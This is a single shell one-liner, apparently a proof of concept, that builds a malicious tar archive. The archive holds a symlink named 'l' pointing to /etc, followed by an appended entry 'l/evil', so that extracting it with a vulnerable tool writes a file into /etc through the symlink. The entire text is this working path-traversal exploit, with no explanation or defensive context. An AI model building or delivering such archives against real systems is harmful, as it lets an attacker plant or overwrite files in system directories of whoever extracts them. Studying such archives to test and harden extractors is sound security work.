mkdir -p t/d; ln -s /etc t/l; echo f > t/d/evil; tar -cf a.tar -C t l; rm t/l; mkdir t/l; echo evil > t/l/evil; tar -rf a.tar -C t l/evil; rm -r t
